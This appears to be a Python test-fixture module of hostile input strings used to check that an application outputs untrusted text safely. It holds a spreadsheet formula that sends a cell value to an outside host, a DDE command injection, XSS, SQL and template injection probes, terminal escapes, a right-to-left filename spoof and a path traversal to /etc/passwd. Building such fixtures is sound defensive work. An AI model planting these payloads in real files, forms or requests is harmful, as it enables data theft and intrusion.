"""Texts that attack their readers: spreadsheets, browsers, databases, templates, terminals, people.

Belongs here: the texts. They are harmless here (example.org, no payload) and must come out of every table,
log and page as plain text.
"""

from __future__ import annotations

FORMULA = '=HYPERLINK("http://example.org/x?c="&A1,"Click for the annex")'
COMMAND = "=cmd|' /C echo invented'!A0"
SCRIPT = "<script>alert('invented')</script><img src=x onerror=alert(1)>"
SQL = "Robert'); DROP TABLE submissions;--"
TEMPLATE = "{{ 7*7 }} ${7*7} {% for x in range(9) %}{{ config }}{% endfor %} {0.__class__}"
MARKDOWN = "| a | b |\n|---|---|\n[click](javascript:alert(1)) ![x](http://example.org/t.png) `code`"
CONTROL = "bell \x07 escape \x1b[31mred\x1b[0m backspace \x08 unit \x1f end"
RIGHT_TO_LEFT = "annex \u202egpj.exe\u202c, zero\u200bwidth, joiner\u200d"
PATH = "../../../../etc/passwd"
LONG = "We would like to add that the exchange matters a great deal to every department of our city. " * 120
"""About 11,000 characters: far beyond any field of the form, below the limit of a spreadsheet cell."""
